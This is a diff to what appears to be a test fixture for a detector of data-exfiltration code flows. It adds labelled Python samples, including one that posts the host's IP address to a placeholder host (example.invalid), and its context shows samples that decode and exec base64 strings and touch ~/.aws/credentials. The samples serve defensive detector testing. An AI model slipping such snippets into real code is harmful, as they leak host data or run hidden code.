@@ -60,6 +60,12 @@ FLOWS = {
         "code.exfil_flow",
         7,
     ),
+    "the own host's address sent": (
+        "import socket, requests\ndef ping():\n    ip = socket.gethostbyname(socket.gethostname())\n"
+        "    requests.post('https://example.invalid/c', data={'ip': ip})\n",
+        "code.exfil_flow",
+        4,
+    ),
     "decoded value renamed before exec": (
         "import base64\ndef go(s):\n    raw = base64.b64decode(s)\n    text = raw.decode()\n"
         "    eval(compile(text, '<string>', 'exec'))\n",
@@ -110,6 +116,10 @@ PLAIN = {
         "import os, requests\ndef save(k):\n"
         "    with open(os.path.expanduser('~/.aws/credentials'), 'w') as fh:\n"
         "        fh.write(k)\n    requests.post('https://example.invalid/c', data={'saved': True})\n"
+    ),
+    "a proxy client resolves its caller's destination and sends to it": (
+        "import socket\ndef connect(sock, dest_addr, port):\n    addr = socket.gethostbyname(dest_addr)\n"
+        "    sock.sendall(socket.inet_aton(addr) + bytes([port]))\n"
     ),
     "a string built from plain parts": (
         "def go(parts):\n    out = ''\n    for p in parts:\n        out += p.upper()\n    exec(out)\n"
